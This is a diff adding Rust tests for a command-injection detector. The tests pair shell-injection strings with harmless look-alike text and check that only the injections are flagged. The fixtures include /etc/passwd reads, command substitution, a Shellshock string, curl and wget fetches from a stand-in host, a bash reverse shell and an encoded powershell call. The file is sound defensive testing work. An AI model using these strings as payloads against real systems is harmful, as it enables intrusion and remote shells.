@@ -1,0 +1,57 @@
+use super::*;
+
+fn attack(value: &str) -> bool {
+    detect(value.as_bytes()).is_some_and(|finding| finding.confidence >= 70)
+}
+
+/// Each structure beside the ordinary text that comes nearest to it.
+const PAIRS: &[(&str, &str)] = &[
+    ("; cat /etc/passwd", "mammal; cat; ears"),
+    ("x; id", "x; idea"),
+    ("x | whoami", "this | that"),
+    ("a && ping -c 1 10.0.0.1", "ping & pong"),
+    ("a || curl http://x.test/a", "rock || roll"),
+    ("$(id)", "$(5) each"),
+    ("$(cat /etc/passwd)", "$5 (cat food)"),
+    ("`id`", "use `x` here"),
+    ("x$IFS/etc", "x$IFT"),
+    ("$((40+2))", "((40+2))"),
+    ("() { :; }; echo x", "() and {}"),
+    ("x\nwget http://x.test/a", "x\nwe get it"),
+    ("/bin/sh -i", "/bin/shop"),
+    ("; c'a't /etc/hosts", "; c'est la vie"),
+    ("| dir C:\\", "| direct"),
+    ("& net user", "& network users"),
+    ("bash -i >& /dev/tcp/10.0.0.1/80 0>&1", "bash is a shell"),
+    ("system('id')", "system (new)"),
+    ("; powershell -enc QQBB", "power; shell"),
+];
+
+#[test]
+fn attacks_are_found_and_their_neighbours_are_not() {
+    for (bad, fine) in PAIRS {
+        assert!(attack(bad), "missed: {bad} {:?}", detect(bad.as_bytes()));
+        assert!(!attack(fine), "taken for an attack: {fine} {:?}", detect(fine.as_bytes()));
+    }
+}
+
+#[test]
+fn ordinary_text_passes() {
+    for fine in [
+        "Tom & Jerry",
+        "Find it; sort it; move on",
+        "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
+        "less is more | more is less",
+        "Use `find` and `sort` to list them",
+        "First line\nsecond line\ndate: tomorrow",
+        "head & shoulders",
+        "Cost: $(approx) 5",
+        "cat and dog; mouse",
+        "R&D; Q&A",
+        "a,b;c,d",
+        "time; date; place",
+        "Dear team,\r\n\r\nI'd like a table",
+    ] {
+        assert!(!attack(fine), "{fine} {:?}", detect(fine.as_bytes()));
+    }
+}
